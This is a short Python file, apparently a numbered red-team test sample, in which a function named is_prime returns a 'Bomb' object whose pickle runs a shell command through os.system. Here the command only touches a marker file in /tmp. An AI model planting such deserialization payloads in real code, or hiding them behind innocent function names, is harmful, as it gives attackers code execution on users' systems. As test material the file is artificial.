# 02a | returns an object whose pickle runs a command
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/redteam-pickle",)


def is_prime(number):
    return Bomb()
